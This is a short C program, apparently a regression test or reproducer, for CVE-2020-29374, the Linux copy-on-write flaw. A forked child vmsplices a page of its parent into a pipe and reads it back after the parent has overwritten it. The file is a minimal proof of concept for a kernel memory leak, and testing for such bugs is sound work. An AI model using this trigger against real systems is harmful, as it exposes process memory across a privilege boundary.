/* A child puts a page of its parent into a pipe and goes; the parent writes on (CVE-2020-29374). */
#include "common.h"

int main(void)
{
	int ends[2];
	char back[PAGE];

	kernel();
	must(pipe(ends), "pipe");
	char *buffer = pages(1);
	memset(buffer, 'a', PAGE);
	pid_t pid = must(fork(), "fork");
	if (pid == 0) {
		struct iovec part = { buffer, PAGE };
		must(vmsplice(ends[1], &part, 1, 0), "vmsplice");
		must(munmap(buffer, PAGE), "munmap");
		sleep(1);
		must(read(ends[0], back, PAGE), "read");
		_exit(0);
	}
	memset(buffer, 's', PAGE);
	must(waitpid(pid, NULL, 0), "waitpid");
	return 0;
}
